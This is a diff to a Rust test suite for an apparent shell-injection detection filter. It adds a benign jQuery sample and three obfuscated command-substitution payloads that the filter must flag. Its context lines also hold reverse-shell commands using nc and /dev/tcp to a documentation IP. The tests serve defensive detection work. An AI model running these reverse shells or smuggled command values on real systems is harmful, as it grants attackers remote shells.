@@ -756,6 +756,7 @@ mod tests {
             "My script:\n```bash\n#!/bin/bash\ncurl -X POST https://x.example/v1\nnode server.js\n```\nIt fails.",
             "The caveat: start `docker run -it ubuntu:latest /bin/bash` first, then paste.",
             "Use `mkfifo /tmp/pipe` for a named pipe, and `bash -i` for a login-like shell.",
+            "In jQuery, $(document).ready(fn) and $('#price').text(total) run after load.",
         ] {
             let verdict = verdict(&filter, prose);
             assert!(verdict.score < 5, "{prose}: {verdict:?}");
@@ -770,6 +771,9 @@ mod tests {
             "test `ping -c 10 127.0.0.1`",
             "hello there `nc -e /bin/sh 192.0.2.1 4444` friend",
             "so now `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` please",
+            "$(printf 'id')",
+            "x$(rev<<<'di')",
+            "a$(tr a-z n-za-m <<< 'vq')",
         ] {
             let verdict = verdict(&filter, attack);
             assert!(verdict.score >= 5, "{attack}: {verdict:?}");
